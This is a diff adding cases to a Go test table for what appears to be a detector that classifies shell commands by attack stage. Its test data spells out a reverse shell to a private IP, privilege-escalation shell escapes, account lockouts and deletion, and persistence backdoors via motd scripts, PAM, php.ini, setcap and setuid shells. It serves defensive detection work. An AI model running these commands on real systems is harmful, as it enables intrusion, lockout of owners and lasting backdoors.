@@ -30,6 +30,27 @@ func TestClassify(t *testing.T) {
 		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
 		{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
 		{"crontab -", classPersistence},
+		{"chmod 755 /etc/update-motd.d/60-sysinfo", classPersistence}, // made runnable where logins run it
+		{"chmod +x /etc/cron.daily/zz", classPersistence},
+		{"chmod 644 /etc/update-motd.d/60-sysinfo", classNone}, // made unrunnable: nothing installed
+		{"usermod -L alice", classExfilImpact},                 // the owner locked out (T1531)
+		{"chage -E 0 alice", classExfilImpact},
+		{"passwd -l bob", classExfilImpact},
+		{"userdel -r carol", classExfilImpact},
+		{"usermod -aG sudo mallory", classPersistence}, // a way back in
+		{"chage -l alice", classNone},
+		{"usermod -l newname old", classPersistence}, // a rename, not a lock
+		{"/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=sh /dev/shm/.r", classSuspicious}, // a shell escape, not staging
+		{"sudo find /var/www -name x -exec /bin/sh -p \\; -quit", classSuspicious},
+		{"tar czf /tmp/site.tgz /var/www/html", classExfilImpact},           // staging stays staging
+		{"echo '/tmp/.u &' >> /etc/update-motd.d/99-sys", classPersistence}, // runs as root at every ssh login
+		{"printf 'auth optional pam_exec.so /tmp/x' > /etc/pam.d/common-auth", classPersistence},
+		{"sed -i 's|^;auto_prepend_file =|auto_prepend_file = /tmp/p.php|' /etc/php/8.2/fpm/php.ini", classPersistence},
+		{"setcap cap_setuid+ep /usr/local/bin/python3-backup", classPersistence}, // like a setuid copy
+		{"echo 'sh /tmp/.b' | at now + 1 minute", classPersistence},
+		{"cp x.conf /etc/logrotate.d/shop", classPersistence},
+		{"getcap -r /usr/bin", classNone}, // reading capabilities changes nothing
+		{"cat /etc/update-motd.d/10-uname", classNone},
 		{"cp /bin/bash /tmp/.b; chmod u+s /tmp/.b", classPersistence}, // a setuid shell: a way back in as its owner
 		{"chmod 4755 /var/tmp/.x", classPersistence},
 		{"curl -s --unix-socket /var/run/docker.sock http://x/containers/json", classSuspicious},
